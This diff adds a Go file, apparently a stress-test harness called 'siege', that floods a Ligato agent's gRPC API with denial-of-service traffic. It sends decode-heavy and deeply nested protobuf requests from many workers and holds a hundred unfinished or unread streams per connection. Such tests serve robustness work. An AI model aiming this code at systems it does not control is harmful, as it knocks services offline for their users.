@@ -1,0 +1,171 @@
+package siege
+
+import (
+	"bytes"
+	"context"
+	"encoding/binary"
+	"io"
+	"net/http"
+	"time"
+
+	"google.golang.org/protobuf/encoding/protowire"
+)
+
+// The paths of calls.
+const (
+	setConfig   = "/ligato.generic.ManagerService/SetConfig"
+	getConfig   = "/ligato.generic.ManagerService/GetConfig"
+	dumpState   = "/ligato.generic.ManagerService/DumpState"
+	subscribe   = "/ligato.generic.ManagerService/Subscribe"
+	knownModels = "/ligato.generic.MetaService/KnownModels"
+	getAll      = "/ligato.configurator.ConfiguratorService/Get"
+	dumpAll     = "/ligato.configurator.ConfiguratorService/Dump"
+	notify      = "/ligato.configurator.ConfiguratorService/Notify"
+	reflection  = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+)
+
+// largestMessage is the largest request that the agent accepts.
+const largestMessage = 4 << 20
+
+// caller makes calls over connections of its own. It reads nothing of an answer that is not asked for.
+func caller() *http.Client {
+	transport := &http.Transport{
+		Protocols: new(http.Protocols),
+		HTTP2:     &http.HTTP2Config{MaxReceiveBufferPerStream: 64 << 10, MaxReceiveBufferPerConnection: 64 << 10},
+	}
+	transport.Protocols.SetUnencryptedHTTP2(true)
+	return &http.Client{Transport: transport}
+}
+
+// call begins a call. The agent may refuse it: then nothing is returned.
+func (t *target) call(ctx context.Context, by *http.Client, path string, body io.Reader) io.ReadCloser {
+	request, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+t.calls+path, body)
+	if err != nil {
+		t.Error(err) // a mistake of the attack
+		return nil
+	}
+	request.Header.Set("Content-Type", "application/grpc")
+	request.Header.Set("Te", "trailers")
+	request.Header.Set("Datasrc", "siege")
+	request.Header.Set("Wait-Done", "true")
+	answer, err := by.Do(request)
+	if err != nil {
+		return nil
+	}
+	return answer.Body
+}
+
+// framed is a message as gRPC sends it.
+func framed(message []byte) []byte {
+	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
+}
+
+// field is a field of a message that has a message, a text or nothing.
+func field(number protowire.Number, content []byte) []byte {
+	return protowire.AppendBytes(protowire.AppendTag(nil, number, protowire.BytesType), content)
+}
+
+// dense are requests that are small to send and large to decode, by their paths.
+func dense() map[string][]byte {
+	removal := field(1, field(1, append(field(1, []byte("linux.interfaces.interface")), field(2, []byte("none"))...)))
+	nested := field(1, nil)
+	for range 5000 {
+		nested = field(1, nested)
+	}
+	rules := field(1, append(field(1, []byte("x/ligato.vpp.acl.ACL")), field(2, bytes.Repeat(field(2, nil), largestMessage/3))...))
+	return map[string][]byte{
+		setConfig:         bytes.Repeat(field(1, nil), largestMessage/2),
+		setConfig + "?1":  bytes.Repeat(field(1, removal), largestMessage/len(removal)-1000),
+		setConfig + "?2":  field(1, field(1, field(2, rules))),
+		setConfig + "?3":  nested,
+		getConfig:         bytes.Repeat(field(1, nil), largestMessage/2),
+		subscribe:         bytes.Repeat(field(1, nil), largestMessage/2),
+		notify:            bytes.Repeat(field(2, nil), largestMessage/2),
+		knownModels:       field(1, bytes.Repeat([]byte("c"), largestMessage-100)),
+		knownModels + "?": bytes.Repeat(field(9, nil), largestMessage/2),
+	}
+}
+
+// denseCalls sends such requests over many connections at once.
+func denseCalls(ctx context.Context, t *target) error {
+	all := dense()
+	var paths []string
+	for path := range all {
+		paths = append(paths, path)
+	}
+	worker := func(first int) func() error {
+		return func() error {
+			by := caller()
+			defer by.CloseIdleConnections()
+			return t.every(ctx, 200*time.Millisecond, func(n int) error {
+				soon, cancel := context.WithTimeout(ctx, 3*time.Second)
+				defer cancel()
+				path := paths[(n+first)%len(paths)]
+				plain, _, _ := bytes.Cut([]byte(path), []byte("?"))
+				answer := t.call(soon, by, string(plain), bytes.NewReader(framed(all[path])))
+				if answer != nil {
+					_, _ = io.Copy(io.Discard, answer) // it may break off
+					answer.Close()
+				}
+				return nil
+			})
+		}
+	}
+	return together(worker(0), worker(1), worker(2), worker(3), worker(4), worker(5))
+}
+
+// unfinished is a request of which the end never comes.
+type unfinished struct {
+	io.Reader
+	ctx context.Context
+}
+
+// Read implements io.Reader.
+func (u unfinished) Read(p []byte) (int, error) {
+	n, err := u.Reader.Read(p)
+	if err == nil {
+		return n, nil
+	}
+	<-u.ctx.Done()
+	return 0, u.ctx.Err()
+}
+
+// heldCalls has many connections with many calls each. They send nearly all of a large request, or
+// read nothing of a large answer, and go on for ever.
+func heldCalls(ctx context.Context, t *target) error {
+	const streams = 100
+	almost := framed(make([]byte, largestMessage-1))[:largestMessage/4]
+	paths := []string{subscribe, getConfig, dumpState, getAll, notify, dumpAll, reflection}
+	connection := func(first int) func() error {
+		return func() error {
+			return t.every(ctx, 10*time.Second, func(n int) error {
+				soon, cancel := context.WithTimeout(ctx, 9*time.Second)
+				defer cancel()
+				by := caller()
+				defer by.CloseIdleConnections()
+				calls := make([]func() error, streams)
+				for i := range calls {
+					calls[i] = func() error {
+						var answer io.ReadCloser
+						if i%2 == 0 {
+							answer = t.call(soon, by, setConfig, unfinished{bytes.NewReader(almost), soon})
+						} else {
+							answer = t.call(soon, by, paths[(i+first+n)%len(paths)], bytes.NewReader(framed(nil)))
+						}
+						if answer != nil {
+							<-soon.Done()
+							answer.Close()
+						}
+						return nil
+					}
+				}
+				return together(calls...)
+			})
+		}
+	}
+	var all []func() error
+	for i := range 20 {
+		all = append(all, connection(i))
+	}
+	return together(all...)
+}
